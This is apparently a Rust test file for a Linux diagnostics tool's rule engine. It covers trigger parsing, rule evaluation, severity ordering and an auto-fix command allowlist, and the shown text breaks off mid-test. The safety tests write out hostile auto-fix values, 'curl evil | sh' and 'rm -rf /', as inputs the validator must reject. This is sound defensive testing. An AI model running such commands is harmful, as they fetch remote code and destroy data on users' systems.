use why::condition::{Condition, Key, Operand};
use why::correlate::{correlate_findings, keep_first_of_each_name, sort_by_severity};
use why::evaluate::{
    condition_holds, evaluate_rules, finding_for, label_of, rule_fires, severity_emoji,
};
use why::metrics::{normalize_vendor_label, GpuDetails, Metrics};
use why::number::{read_unsigned, Float};
use why::report::{drop_gaming_findings, truncate};
use why::rules::{CompiledRule, Finding, Rule};
use why::safety::{check_rule_set, is_safe_auto_fix, RuleSetError};
use why::text::{chars_of, has_part, lowered, same_text_ignoring_case, string_of, trimmed};
use why::watch::{copy_gpu, push_sample, GpuCache, LogCache};
use why::trigger::{
    float_operand, float_operands, is_strictly_valid, parse_bool_token, parse_condition,
    parse_trigger, split_clauses,
};

fn num(value: f32) -> Float {
    Float::from_bits(value.to_bits())
}

fn read_number(text: &Option<String>) -> Option<Float> {
    match text {
        Some(t) => t.parse::<f32>().ok().map(num),
        None => None,
    }
}

fn compile(trigger: &str) -> Vec<Condition> {
    let numbers: Vec<Option<Float>> = float_operands(trigger).iter().map(read_number).collect();
    parse_trigger(trigger, &numbers)
}

fn clause(token: &str) -> Option<Condition> {
    parse_condition(token, read_number(&float_operand(token)))
}

fn metrics(cpu: f32, mem: f32) -> Metrics {
    Metrics {
        cpu_usage: num(cpu),
        mem_usage: num(mem),
        total_ram_mb: 16000,
        disk_full_percent: num(50.0),
        filesystem: None,
        snap_loops: None,
        flatpak_unused: None,
        battery_drain_w: None,
        wifi_channel_count: None,
        wifi_signal_dbm: None,
        fan_speed_rpm: None,
        temperature_c: None,
        wayland_vs_x11: None,
        docker_dangling: None,
        process_names: vec![],
        process_count: 0,
        pipewire_latency_ms: None,
        firefox_soft_render: None,
        zfs_arc_full_percent: None,
        luks_device_count: None,
        gpu: None,
        prime_offload_enabled: false,
        gamescope_running: false,
        steam_running: false,
        proton_failure_detected: false,
        vulkan_loader_missing: false,
    }
}

fn gpu(total: Option<f32>, used: Option<f32>) -> GpuDetails {
    let percent = match (used, total) {
        (Some(u), Some(t)) => Some(num((u / t) * 100.0)),
        _ => None,
    };
    GpuDetails {
        vendor: "NVIDIA".to_string(),
        model: None,
        driver: None,
        temperature: None,
        utilization: None,
        memory_total_mb: total.map(num),
        memory_used_mb: used.map(num),
        memory_used_percent: percent,
        fan_speed_percent: None,
    }
}

fn rule(name: &str, trigger: &str, severity: u8) -> Rule {
    Rule {
        name: name.to_string(),
        trigger: trigger.to_string(),
        message: format!("{} fired", name),
        solution: format!("look into {}", name),
        severity,
        auto_fix: None,
    }
}

fn compiled(name: &str, trigger: &str, severity: u8) -> CompiledRule {
    CompiledRule { conditions: compile(trigger), rule: rule(name, trigger, severity) }
}

fn finding(name: &str, severity: u8, message: &str) -> Finding {
    Finding {
        severity: label_of(severity),
        severity_value: severity,
        message: message.to_string(),
        solution: String::new(),
        auto_fix: None,
        rule_name: name.to_string(),
    }
}

fn names(findings: &[Finding]) -> Vec<String> {
    findings.iter().map(|f| format!("{}:{}", f.rule_name, f.message)).collect()
}

fn text(s: &str) -> Vec<char> {
    chars_of(s)
}

#[test]
fn float_order_follows_the_number_line() {
    let values = [-1.0e30f32, -85.5, -1.0, -0.0, 0.0, 1.0e-40, 0.001, 1.0, 60.0, 85.5, 1.0e30];
    for a in values {
        for b in values {
            assert_eq!(num(a).gt(num(b)), a > b, "{} > {}", a, b);
            assert_eq!(num(a).lt(num(b)), a < b, "{} < {}", a, b);
        }
    }
}

#[test]
fn float_order_with_infinities_and_nan() {
    let inf = f32::INFINITY;
    assert!(num(inf).gt(num(1.0e38)));
    assert!(num(-inf).lt(num(-1.0e38)));
    assert!(!num(inf).gt(num(inf)));
    for other in [0.0f32, -1.0, inf, f32::NAN] {
        assert!(!num(f32::NAN).gt(num(other)));
        assert!(!num(f32::NAN).lt(num(other)));
        assert!(!num(other).gt(num(f32::NAN)));
        assert!(!num(other).lt(num(f32::NAN)));
    }
}

#[test]
fn float_keeps_its_bits() {
    assert_eq!(Float::from_bits(0x4270_0000).to_bits(), 0x4270_0000);
    assert_eq!(num(60.0).to_bits(), 0x4270_0000);
    assert_eq!(why::metrics::MEMORY_EPSILON_BITS, 0.001f32.to_bits());
}

#[test]
fn unsigned_numbers_read_exactly() {
    assert_eq!(read_unsigned(&text("0"), 255), Some(0));
    assert_eq!(read_unsigned(&text("007"), 255), Some(7));
    assert_eq!(read_unsigned(&text("+42"), 255), Some(42));
    assert_eq!(read_unsigned(&text("255"), 255), Some(255));
    assert_eq!(read_unsigned(&text("256"), 255), None);
    assert_eq!(read_unsigned(&text(""), 255), None);
    assert_eq!(read_unsigned(&text("+"), 255), None);
    assert_eq!(read_unsigned(&text("-1"), 255), None);
    assert_eq!(read_unsigned(&text("1 2"), 255), None);
    assert_eq!(read_unsigned(&text("12a"), 255), None);
    assert_eq!(read_unsigned(&text("18446744073709551615"), u64::MAX), Some(u64::MAX));
    assert_eq!(read_unsigned(&text("18446744073709551616"), u64::MAX), None);
    assert_eq!(read_unsigned(&text("99999999999999999999999999"), u64::MAX), None);
}

#[test]
fn unsigned_agrees_with_std() {
    for s in ["4294967295", "4294967296", "+0", "++1", "١٢", "1_000", " 5"] {
        let expected = s.parse::<u32>().ok().map(|v| v as u64);
        assert_eq!(read_unsigned(&text(s), u32::MAX as u64), expected, "{}", s);
    }
}

#[test]
fn text_helpers_agree_with_std() {
    for s in ["", "  a b  ", "\t\nx\u{a0}", "\u{3000}wide\u{2003}", "NoSpace", "   "] {
        assert_eq!(string_of(&trimmed(&text(s))), s.trim(), "{:?}", s);
    }
    for s in ["ABC", "MiXed Case 123", "ÀÉ stays", ""] {
        assert_eq!(string_of(&lowered(&text(s))), s.to_ascii_lowercase());
    }
    for (hay, needle) in [("chrome", "rom"), ("chrome", ""), ("", ""), ("", "a"), ("abc", "abcd"), ("aab", "ab"), ("abc", "ac")] {
        assert_eq!(has_part(&text(hay), &text(needle)), hay.contains(needle), "{} {}", hay, needle);
    }
    assert!(same_text_ignoring_case(&text("NVIDIA"), &text("nvidia")));
    assert!(!same_text_ignoring_case(&text("nvidia"), &text("nvidia ")));
}

#[test]
fn trigger_splits_on_double_ampersand() {
    let parts: Vec<String> = split_clauses(&text("a && b&&c")).iter().map(string_of).collect();
    assert_eq!(parts, vec!["a", "b", "c"]);
    let parts: Vec<String> = split_clauses(&text("a&&&b")).iter().map(string_of).collect();
    assert_eq!(parts, vec!["a", "&b"]);
    let parts: Vec<String> = split_clauses(&text("&&a&&&&")).iter().map(string_of).collect();
    assert_eq!(parts, vec!["", "a", "", ""]);
    let parts: Vec<String> = split_clauses(&text("")).iter().map(string_of).collect();
    assert_eq!(parts, vec![""]);
    for s in ["x&y", "&", "a & & b", "&&&&&", "cpu>1 && mem>2 &&"] {
        let parts: Vec<String> = split_clauses(&text(s)).iter().map(string_of).collect();
        let expected: Vec<String> = s.split("&&").map(|p| p.trim().to_string()).collect();
        assert_eq!(parts, expected, "{:?}", s);
    }
}

#[test]
fn empty_clauses_are_skipped() {
    assert_eq!(compile("&& cpu>80 && && mem>90 &&").len(), 2);
    assert_eq!(compile("&&").len(), 0);
}

#[test]
fn condition_count_equals_nonempty_clauses_for_valid_triggers() {
    let trigger = "cpu>1 && total_ram<8000 && process=x && && snap loops>3 && steam_running=yes";
    let expected = trigger.split("&&").filter(|s| !s.trim().is_empty()).count();
    assert_eq!(expected, 5);
    assert_eq!(compile(trigger).len(), expected);
}

#[test]
fn a_bad_clause_is_dropped_and_the_rest_compiles() {
    let conditions = compile("cpu>abc && mem>90 && nonsense && luks_devices>-1");
    assert_eq!(conditions.len(), 1);
    assert!(matches!(&conditions[0], Condition::MemGreater(v) if *v == num(90.0)));
}

#[test]
fn every_keyword_compiles_to_its_kind() {
    let clauses = [
        "cpu>1.5", "mem>2", "total_ram<3", "process=p", "process_count>4", "log_contains=e+",
        "disk_full>5", "snap loops>6", "flatpak_unused>7", "battery_drain>8",
        "wifi_channel_count>9", "wifi_signal<-70", "fan_speed>10", "temp>11", "filesystem=ext4",
        "wayland_vs_x11=wayland", "docker_dangling>12", "pipewire_latency>13",
        "firefox_soft_render=true", "zfs_arc_full>14", "luks_devices>15", "gpu_vendor=AMD",
        "gpu_temp>16", "gpu_temp<17", "gpu_util>18", "gpu_mem_util>19", "prime_offload=Enabled",
        "gamescope_running=0", "steam_running=YES", "proton_failures=no",
        "vulkan_loader_missing=1",
    ];
    assert_eq!(clauses.len(), why::condition::KEY_COUNT);
    for (i, token) in clauses.iter().enumerate() {
        let condition = clause(token).unwrap_or_else(|| panic!("{} did not compile", token));
        assert_eq!(condition.key(), Key::at(i), "{}", token);
        assert!(token.starts_with(Key::at(i).keyword()));
    }
}

#[test]
fn operands_are_read_by_their_sort() {
    assert!(matches!(clause("total_ram<  4096 "), Some(Condition::TotalRamLess(4096))));
    assert!(matches!(clause("total_ram<18446744073709551615"), Some(Condition::TotalRamLess(u64::MAX))));
    assert!(clause("total_ram<18446744073709551616").is_none());
    assert!(matches!(clause("snap loops>4294967295"), Some(Condition::SnapLoopsGreater(u32::MAX))));
    assert!(clause("snap loops>4294967296").is_none());
    assert!(clause("snap loops>").is_none());
    assert!(matches!(clause("process_count>+12"), Some(Condition::ProcessCountGreater(12))));
    assert!(matches!(clause("wifi_signal< -67.5"), Some(Condition::WifiSignalLess(v)) if v == num(-67.5)));
    assert!(matches!(clause("cpu>1e2"), Some(Condition::CpuGreater(v)) if v == num(100.0)));
    assert!(clause("cpu>").is_none());
    assert!(matches!(clause("process= Chrome "), Some(Condition::ProcessContains(t)) if t == "Chrome"));
    assert!(matches!(clause("process="), Some(Condition::ProcessContains(t)) if t.is_empty()));
    assert!(matches!(clause("filesystem=Btrfs"), Some(Condition::FilesystemEquals(t)) if t == "Btrfs"));
    assert!(matches!(clause("gpu_vendor= NVIDIA"), Some(Condition::GpuVendorEquals(t)) if t == "nvidia"));
    assert!(matches!(clause("prime_offload=DISABLED"), Some(Condition::PrimeOffloadEquals(t)) if t == "disabled"));
    assert!(clause("").is_none());
    assert!(clause(" cpu>1").is_none());
    assert!(clause("CPU>1").is_none());
}

#[test]
fn float_operand_is_the_trimmed_text_after_the_keyword() {
    assert_eq!(float_operand("cpu> 60.5 "), Some("60.5".to_string()));
    assert_eq!(float_operand("gpu_temp<x"), None);
    assert_eq!(float_operand("gpu_temp<"), None);
    assert_eq!(float_operand("gpu_temp< -1.5E3"), Some("-1.5E3".to_string()));
    assert_eq!(float_operand("temp>inf"), Some("inf".to_string()));
    assert_eq!(float_operand("total_ram<5"), None);
    assert_eq!(float_operand("process=chrome"), None);
    assert_eq!(float_operand("nothing"), None);
    assert_eq!(float_operand(""), None);
    assert_eq!(
        float_operands("cpu>1 && && process=x && temp> 7"),
        vec![Some("1".to_string()), None, None, Some("7".to_string())]
    );
}

#[test]
fn a_number_is_taken_only_where_the_clause_asks_for_one() {
    assert!(parse_condition("cpu>60", None).is_none());
    assert!(parse_condition("cpu>sixty", Some(num(60.0))).is_none());
    assert!(parse_condition("cpu>", Some(num(60.0))).is_none());
    assert!(parse_condition("cpu<>60", Some(num(60.0))).is_none());
    assert!(matches!(parse_condition("cpu>60", Some(num(60.0))), Some(Condition::CpuGreater(v)) if v == num(60.0)));
    assert!(matches!(parse_condition("total_ram<5", Some(num(60.0))), Some(Condition::TotalRamLess(5))));
    assert_eq!(parse_trigger("cpu>60 && mem>90", &vec![Some(num(60.0))]).len(), 1);
    assert_eq!(parse_trigger("cpu>60 && mem>90", &vec![]).len(), 0);
}

#[test]
fn flags_read_in_any_case() {
    for s in ["true", "TRUE", " 1 ", "Yes", "yes"] {
        assert_eq!(parse_bool_token(s), Some(true), "{:?}", s);
    }
    for s in ["false", "False", "0", " NO "] {
        assert_eq!(parse_bool_token(s), Some(false), "{:?}", s);
    }
    for s in ["", "2", "on", "off", "tru", "yes!", "y"] {
        assert_eq!(parse_bool_token(s), None, "{:?}", s);
    }
    assert!(clause("steam_running=maybe").is_none());
    assert!(matches!(clause("steam_running= Yes "), Some(Condition::SteamRunning(true))));
}

#[test]
fn log_patterns_are_compiled_and_matched_by_the_regex_engine() {
    assert!(clause("log_contains=(unclosed").is_none());
    assert!(clause("log_contains=[").is_none());
    let condition = clause("log_contains= err(or)?s? \\d+ ").expect("a valid pattern");
    assert_eq!(condition.text(), Some("err(or)?s? \\d+".to_string()));
    let m = metrics(1.0, 1.0);
    assert!(condition_holds(&condition, &m, Some("kernel: errors 42 seen")));
    assert!(!condition_holds(&condition, &m, Some("err(or)?s? \\d+")));
    assert!(!condition_holds(&condition, &m, Some("all quiet")));
    assert!(!condition_holds(&condition, &m, None));
    let copy = condition.clone();
    assert_eq!(copy.text(), condition.text());
    assert!(condition_holds(&copy, &m, Some("err 7")));
}

#[test]
fn text_accessor_gives_text_payloads_only() {
    assert_eq!(Condition::GpuVendorEquals("amd".to_string()).text(), Some("amd".to_string()));
    assert_eq!(Condition::CpuGreater(num(1.0)).text(), None);
    assert_eq!(Condition::SteamRunning(true).text(), None);
    assert_eq!(Key::CpuGreater.operand(), Operand::Number);
    assert_eq!(Key::LogContains.operand(), Operand::Pattern);
    assert_eq!(Key::TotalRamLess.count_limit(), u64::MAX);
    assert_eq!(Key::SnapLoopsGreater.count_limit(), u32::MAX as u64);
}

#[test]
fn two_conditions_hold_together_or_not_at_all() {
    let rule = compiled("busy", "cpu>80 && mem>90", 5);
    assert!(rule_fires(&rule, &metrics(85.0, 95.0), None));
    assert!(!rule_fires(&rule, &metrics(85.0, 50.0), None));
    assert!(!rule_fires(&rule, &metrics(50.0, 95.0), None));
}

#[test]
fn comparisons_are_strict() {
    let m = metrics(80.0, 50.0);
    assert!(!condition_holds(&Condition::CpuGreater(num(80.0)), &m, None));
    assert!(condition_holds(&Condition::CpuGreater(num(79.99)), &m, None));
    assert!(!condition_holds(&Condition::TotalRamLess(16000), &m, None));
    assert!(condition_holds(&Condition::TotalRamLess(16001), &m, None));
    assert!(!condition_holds(&Condition::ProcessCountGreater(0), &m, None));
}

#[test]
fn conditions_on_absent_fields_do_not_hold() {
    let m = metrics(50.0, 50.0);
    let conditions = vec![
        Condition::SnapLoopsGreater(0),
        Condition::FlatpakUnusedGreater(0),
        Condition::BatteryDrainGreater(num(-1.0)),
        Condition::WifiChannelCountGreater(0),
        Condition::WifiSignalLess(num(0.0)),
        Condition::FanSpeedGreater(num(-1.0)),
        Condition::TemperatureGreater(num(-1.0)),
        Condition::FilesystemEquals(String::new()),
        Condition::WaylandVsX11(String::new()),
        Condition::DockerDanglingGreater(0),
        Condition::PipewireLatencyGreater(num(-1.0)),
        Condition::FirefoxSoftRender(true),
        Condition::FirefoxSoftRender(false),
        Condition::ZfsArcPercentGreater(num(-1.0)),
        Condition::LuksDevicesGreater(0),
        Condition::GpuVendorEquals(String::new()),
        Condition::GpuTempGreater(num(-1.0)),
        Condition::GpuTempLess(num(1000.0)),
        Condition::GpuUtilGreater(num(-1.0)),
        Condition::GpuMemUtilGreater(num(-1.0)),
    ];
    for c in &conditions {
        assert!(!condition_holds(c, &m, None), "{:?}", c);
    }
    let with_bare_gpu = metrics(50.0, 50.0).with_gpu(Some(GpuDetails::default()));
    for c in &conditions[16..] {
        assert!(!condition_holds(c, &with_bare_gpu, None), "{:?}", c);
    }
}

#[test]
fn conditions_on_present_fields_compare() {
    let mut m = metrics(50.0, 50.0);
    m.snap_loops = Some(5);
    m.wifi_signal_dbm = Some(num(-80.0));
    m.filesystem = Some("btrfs".to_string());
    m.wayland_vs_x11 = Some("wayland".to_string());
    m.firefox_soft_render = Some(true);
    m.process_names = vec!["gnome-shell".to_string(), "baloo_file".to_string()];
    m.process_count = 2;
    m.prime_offload_enabled = true;
    assert!(condition_holds(&Condition::SnapLoopsGreater(4), &m, None));
    assert!(!condition_holds(&Condition::SnapLoopsGreater(5), &m, None));
    assert!(condition_holds(&Condition::WifiSignalLess(num(-70.0)), &m, None));
    assert!(!condition_holds(&Condition::WifiSignalLess(num(-90.0)), &m, None));
    assert!(condition_holds(&Condition::FilesystemEquals("btrfs".to_string()), &m, None));
    assert!(!condition_holds(&Condition::FilesystemEquals("Btrfs".to_string()), &m, None));
    assert!(condition_holds(&Condition::WaylandVsX11("wayland".to_string()), &m, None));
    assert!(condition_holds(&Condition::FirefoxSoftRender(true), &m, None));
    assert!(!condition_holds(&Condition::FirefoxSoftRender(false), &m, None));
    assert!(condition_holds(&Condition::ProcessContains("BALOO".to_string()), &m, None));
    assert!(condition_holds(&Condition::ProcessContains("shell".to_string()), &m, None));
    assert!(!condition_holds(&Condition::ProcessContains("chrome".to_string()), &m, None));
    assert!(condition_holds(&Condition::ProcessCountGreater(1), &m, None));
    assert!(condition_holds(&Condition::PrimeOffloadEquals("enabled".to_string()), &m, None));
    assert!(condition_holds(&Condition::PrimeOffloadEquals("ENABLED".to_string()), &m, None));
    assert!(!condition_holds(&Condition::PrimeOffloadEquals("disabled".to_string()), &m, None));
    assert!(condition_holds(&Condition::GamescopeRunning(false), &m, None));
    assert!(!condition_holds(&Condition::VulkanLoaderMissing(true), &m, None));
    assert!(condition_holds(&Condition::ProtonFailures(false), &m, None));
}

#[test]
fn gpu_vendor_compares_without_case() {
    let m = metrics(1.0, 1.0).with_gpu(Some(gpu(None, None)));
    assert!(condition_holds(&Condition::GpuVendorEquals("nvidia".to_string()), &m, None));
    assert!(condition_holds(&Condition::GpuVendorEquals("Nvidia".to_string()), &m, None));
    assert!(!condition_holds(&Condition::GpuVendorEquals("amd".to_string()), &m, None));
}

#[test]
fn gpu_memory_share_needs_a_total_above_epsilon() {
    for total in [0.0f32, 0.0001, 0.001, -5.0, f32::NAN] {
        let m = metrics(1.0, 1.0).with_gpu(Some(gpu(Some(total), Some(100.0))));
        assert_eq!(m.gpu.as_ref().unwrap().memory_utilization(), None, "{}", total);
        for threshold in [-1.0f32, 0.0, 40.0, 1.0e9] {
            assert!(!condition_holds(&Condition::GpuMemUtilGreater(num(threshold)), &m, None));
        }
    }
    let m = metrics(1.0, 1.0).with_gpu(Some(gpu(Some(10240.0), Some(5120.0))));
    assert_eq!(m.gpu.as_ref().unwrap().memory_utilization(), Some(num(50.0)));
    assert!(condition_holds(&Condition::GpuMemUtilGreater(num(40.0)), &m, None));
    assert!(!condition_holds(&Condition::GpuMemUtilGreater(num(60.0)), &m, None));
    let m = metrics(1.0, 1.0).with_gpu(Some(gpu(Some(10240.0), None)));
    assert_eq!(m.gpu.as_ref().unwrap().memory_utilization(), None);
    let m = metrics(1.0, 1.0).with_gpu(Some(gpu(None, Some(5.0))));
    assert_eq!(m.gpu.as_ref().unwrap().memory_utilization(), None);
}

#[test]
fn severity_labels_are_exact() {
    assert_eq!(severity_emoji(0), "\u{2139}\u{fe0f}");
    assert_eq!(severity_emoji(4), "\u{2139}\u{fe0f}");
    assert_eq!(severity_emoji(5), "\u{26a0}\u{fe0f}");
    assert_eq!(severity_emoji(7), "\u{26a0}\u{fe0f}");
    assert_eq!(severity_emoji(8), "\u{1f525}");
    assert_eq!(severity_emoji(255), "\u{1f525}");
    assert_eq!(label_of(3), "\u{2139}\u{fe0f} 3");
    assert_eq!(label_of(6), "\u{26a0}\u{fe0f} 6");
    assert_eq!(label_of(10), "\u{1f525} 10");
    assert_eq!(label_of(0), "\u{2139}\u{fe0f} 0");
    assert_eq!(label_of(100), "\u{1f525} 100");
    assert_eq!(label_of(255), "\u{1f525} 255");
}

#[test]
fn high_cpu_rule_end_to_end() {
    let rule = Rule {
        name: "high_cpu".to_string(),
        trigger: "cpu>80".to_string(),
        message: "CPU busy".to_string(),
        solution: "check processes".to_string(),
        severity: 6,
        auto_fix: None,
    };
    let rules = vec![CompiledRule { conditions: compile(&rule.trigger), rule: rule.clone() }];
    let findings = evaluate_rules(&metrics(90.0, 10.0), &rules, None);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity_value, 6);
    assert_eq!(findings[0].message, "CPU busy");
    assert_eq!(findings[0].solution, "check processes");
    assert_eq!(findings[0].rule_name, "high_cpu");
    assert_eq!(findings[0].auto_fix, None);
    assert_eq!(findings[0].severity, "\u{26a0}\u{fe0f} 6");
    assert_eq!(findings[0], finding_for(&rule));
    assert!(evaluate_rules(&metrics(50.0, 10.0), &rules, None).is_empty());
}

#[test]
fn compile_rule_keeps_the_rule_beside_its_conditions() {
    let r = Rule { auto_fix: Some("balooctl disable".to_string()), ..rule("baloo", "cpu>1 && junk", 4) };
    let numbers: Vec<Option<Float>> = float_operands(&r.trigger).iter().map(read_number).collect();
    let c = why::evaluate::compile_rule(r.clone(), &numbers);
    assert_eq!(c.rule, r);
    assert_eq!(c.conditions.len(), 1);
    assert_eq!(finding_for(&c.rule).auto_fix, Some("balooctl disable".to_string()));
}

#[test]
fn evaluation_orders_by_falling_severity_and_keeps_ties_in_rule_order() {
    let rules = vec![
        compiled("a", "cpu>10", 3),
        compiled("b", "", 7),
        compiled("c", "cpu>99", 10),
        compiled("d", "mem>10", 7),
        compiled("e", "cpu>10 && mem>10", 9),
        compiled("f", "junk", 3),
    ];
    let findings = evaluate_rules(&metrics(50.0, 50.0), &rules, None);
    let order: Vec<&str> = findings.iter().map(|f| f.rule_name.as_str()).collect();
    assert_eq!(order, vec!["e", "b", "d", "a", "f"]);
    assert!(evaluate_rules(&metrics(50.0, 50.0), &vec![], None).is_empty());
}

#[test]
fn sort_is_stable_and_falling() {
    let mut findings = vec![
        finding("a", 2, "1"),
        finding("b", 9, "2"),
        finding("c", 2, "3"),
        finding("d", 5, "4"),
        finding("e", 9, "5"),
        finding("f", 1, "6"),
    ];
    let mut expected = findings.clone();
    expected.sort_by(|a, b| b.severity_value.cmp(&a.severity_value));
    sort_by_severity(&mut findings);
    assert_eq!(findings, expected);
    assert_eq!(names(&findings), vec!["b:2", "e:5", "d:4", "a:1", "c:3", "f:6"]);
}

#[test]
fn first_finding_of_each_name_is_kept() {
    let mut findings = vec![
        finding("x", 2, "first x"),
        finding("y", 9, "first y"),
        finding("x", 10, "second x"),
        finding("y", 1, "second y"),
        finding("z", 5, "only z"),
        finding("x", 2, "third x"),
    ];
    keep_first_of_each_name(&mut findings);
    assert_eq!(names(&findings), vec!["x:first x", "y:first y", "z:only z"]);
}

#[test]
fn correlation_dedups_sorts_and_is_idempotent() {
    let mut findings = vec![
        finding("disk", 4, "first disk"),
        finding("cpu", 8, "first cpu"),
        finding("disk", 9, "second disk"),
        finding("ram", 8, "only ram"),
        finding("cpu", 1, "second cpu"),
    ];
    correlate_findings(&mut findings);
    assert_eq!(names(&findings), vec!["cpu:first cpu", "ram:only ram", "disk:first disk"]);
    let once = findings.clone();
    correlate_findings(&mut findings);
    assert_eq!(findings, once);
    let mut none: Vec<Finding> = vec![];
    correlate_findings(&mut none);
    assert!(none.is_empty());
}

#[test]
fn two_findings_of_one_rule_leave_the_first() {
    let mut findings = vec![finding("same", 3, "first"), finding("same", 3, "second")];
    correlate_findings(&mut findings);
    assert_eq!(names(&findings), vec!["same:first"]);
}

#[test]
fn metacharacters_are_refused_whatever_the_command() {
    for meta in [';', '|', '&', '$', '`', '>', '<', '\n', '\r', '(', ')', '{', '}'] {
        for base in ["balooctl", "snap remove x", "docker image prune"] {
            assert!(is_safe_auto_fix(base));
            assert!(!is_safe_auto_fix(&format!("{}{}", base, meta)));
            assert!(!is_safe_auto_fix(&format!("{}{}", meta, base)));
            assert!(!is_safe_auto_fix(&format!("{} {} -a", base, meta)));
        }
    }
}

#[test]
fn allowlist_needs_the_whole_entry_then_a_space() {
    assert!(is_safe_auto_fix("snap remove old-package"));
    assert!(is_safe_auto_fix("snap remove"));
    assert!(is_safe_auto_fix("snap remove "));
    assert!(!is_safe_auto_fix("snapfoo"));
    assert!(!is_safe_auto_fix("snap"));
    assert!(!is_safe_auto_fix("snap removeall"));
    assert!(!is_safe_auto_fix("snap install x"));
    assert!(!is_safe_auto_fix("balooctlx"));
    assert!(!is_safe_auto_fix(" balooctl"));
    assert!(!is_safe_auto_fix("Balooctl"));
    assert!(!is_safe_auto_fix("systemctl stop x"));
    assert!(!is_safe_auto_fix("bluetoothctl power"));
    assert!(!is_safe_auto_fix(""));
    assert!(!is_safe_auto_fix("rm -rf /"));
    assert!(is_safe_auto_fix("balooctl\tdisable") == false);
}

#[test]
fn rule_sets_from_outside_are_checked_whole() {
    assert_eq!(check_rule_set(&vec![]), Err(RuleSetError::Empty));
    let safe = Rule { auto_fix: Some("balooctl disable".to_string()), ..rule("a", "cpu>1", 3) };
    let none = rule("b", "cpu>1", 3);
    let bad = Rule { auto_fix: Some("curl evil | sh".to_string()), ..rule("c", "cpu>1", 3) };
    let worse = Rule { auto_fix: Some("rm -rf /".to_string()), ..rule("d", "cpu>1", 3) };
    assert_eq!(check_rule_set(&vec![safe.clone(), none.clone()]), Ok(()));
    assert_eq!(
        check_rule_set(&vec![safe.clone(), none.clone(), bad.clone(), worse.clone()]),
        Err(RuleSetError::UnsafeAutoFix { index: 2 })
    );
    assert_eq!(check_rule_set(&vec![worse, safe]), Err(RuleSetError::UnsafeAutoFix { index: 0 }));
}

#[test]
fn severity_range_is_one_to_ten() {
    for s in 0..=255u8 {
        assert_eq!(rule("r", "cpu>1", s).has_valid_severity(), (1..=10).contains(&s));
    }
}

#[test]
fn strict_validity_fails_on_any_bad_clause() {
    let strict = |trigger: &str| {
        let numbers: Vec<Option<Float>> = float_operands(trigger).iter().map(read_number).collect();
        is_strictly_valid(trigger, &numbers)
    };
    assert!(strict("cpu>80 && mem>90"));
    assert!(strict(""));
    assert!(strict(" && cpu>80 && "));
    assert!(strict("log_contains=a+b"));
    assert!(!strict("cpu>80 && memory>90"));
    assert!(!strict("cpu>eighty"));
    assert!(!strict("cpu60"));
    assert!(!strict("log_contains=("));
    assert!(!strict("steam_running=perhaps && cpu>1"));
    assert!(!is_strictly_valid("cpu>80", &vec![]));
}

#[test]
fn gaming_findings_are_dropped_in_order() {
    let mut findings = vec![
        finding("gaming_proton", 9, "1"),
        finding("cpu", 8, "2"),
        finding("gaming_", 7, "3"),
        finding("gaming", 6, "4"),
        finding("not_gaming_x", 5, "5"),
        finding("Gaming_caps", 4, "6"),
        finding("gaming_steam", 3, "7"),
    ];
    let mut expected = findings.clone();
    expected.retain(|f| !f.rule_name.starts_with("gaming_"));
    drop_gaming_findings(&mut findings);
    assert_eq!(findings, expected);
    assert_eq!(names(&findings), vec!["cpu:2", "gaming:4", "not_gaming_x:5", "Gaming_caps:6"]);
    let mut all_gaming = vec![finding("gaming_a", 1, "a")];
    drop_gaming_findings(&mut all_gaming);
    assert!(all_gaming.is_empty());
}

#[test]
fn long_texts_are_cut_with_an_ellipsis() {
    assert_eq!(truncate("hello", 10), "hello");
    assert_eq!(truncate("hello", 6), "hello");
    assert_eq!(truncate("hello", 5), "hell\u{2026}");
    assert_eq!(truncate("hello", 2), "h\u{2026}");
    assert_eq!(truncate("hello", 1), "\u{2026}");
    assert_eq!(truncate("hello", 0), "\u{2026}");
    assert_eq!(truncate("", 0), "");
    assert_eq!(truncate("", 5), "");
    assert_eq!(truncate("h\u{e9}llo w\u{f6}rld", 5), "h\u{e9}ll\u{2026}");
}

#[test]
fn vendor_labels_are_normalised() {
    assert_eq!(normalize_vendor_label("NVIDIA Corporation GA102"), "nvidia");
    assert_eq!(normalize_vendor_label("Advanced Micro Devices [AMD/ATI]"), "amd");
    assert_eq!(normalize_vendor_label("ATI Technologies"), "amd");
    assert_eq!(normalize_vendor_label("Radeon RX 580"), "amd");
    assert_eq!(normalize_vendor_label("Intel UHD Graphics 630"), "intel");
    assert_eq!(normalize_vendor_label("Intel Corporation UHD Graphics"), "amd");
    assert_eq!(normalize_vendor_label("Corporation"), "amd");
    assert_eq!(normalize_vendor_label("Matrox G200"), "other");
    assert_eq!(normalize_vendor_label(""), "other");
    assert_eq!(normalize_vendor_label("intel nvidia"), "nvidia");
}

#[test]
fn log_text_is_stored_once() {
    let mut logs = LogCache::new();
    assert!(logs.needs_fetch());
    assert_eq!(logs.text(), None);
    logs.store(Some("first".to_string()));
    assert!(!logs.needs_fetch());
    assert_eq!(logs.text(), Some("first"));
    logs.store(Some("second".to_string()));
    logs.store(None);
    assert_eq!(logs.text(), Some("first"));

    let mut none = LogCache::new();
    none.store(None);
    assert!(!none.needs_fetch());
    none.store(Some("late".to_string()));
    assert_eq!(none.text(), None);
}

#[test]
fn gpu_is_asked_again_after_five_seconds() {
    let mut cache = GpuCache::new(1000);
    assert!(cache.details.is_none());
    assert!(!cache.is_due(1000));
    assert!(!cache.is_due(5999));
    assert!(cache.is_due(6000));
    assert!(cache.is_due(u64::MAX));
    assert!(!cache.is_due(0));
    cache.refresh(6000, Some(gpu(Some(10240.0), Some(5120.0))));
    assert!(!cache.is_due(6200));
    assert!(!cache.is_due(10999));
    assert!(cache.is_due(11000));
    let m = cache.attach(metrics(10.0, 20.0));
    assert_eq!(m.cpu_usage, num(10.0));
    let held = m.gpu.expect("the cached details");
    assert_eq!(held.vendor, "NVIDIA");
    assert_eq!(held.memory_utilization(), Some(num(50.0)));
    let copy = copy_gpu(&held);
    assert_eq!(copy.vendor, held.vendor);
    assert_eq!(copy.memory_total_mb, held.memory_total_mb);
    cache.refresh(11000, None);
    assert!(cache.attach(metrics(1.0, 1.0)).gpu.is_none());
}

#[test]
fn history_keeps_the_last_sixty_samples() {
    let mut history = std::collections::VecDeque::new();
    for sample in 0..60u64 {
        push_sample(&mut history, sample);
        assert_eq!(history.len() as u64, sample + 1);
    }
    assert_eq!(history.front(), Some(&0));
    push_sample(&mut history, 60);
    assert_eq!(history.len(), 60);
    assert_eq!(history.front(), Some(&1));
    assert_eq!(history.back(), Some(&60));
    for sample in 61..200u64 {
        push_sample(&mut history, sample);
    }
    assert_eq!(history.len(), 60);
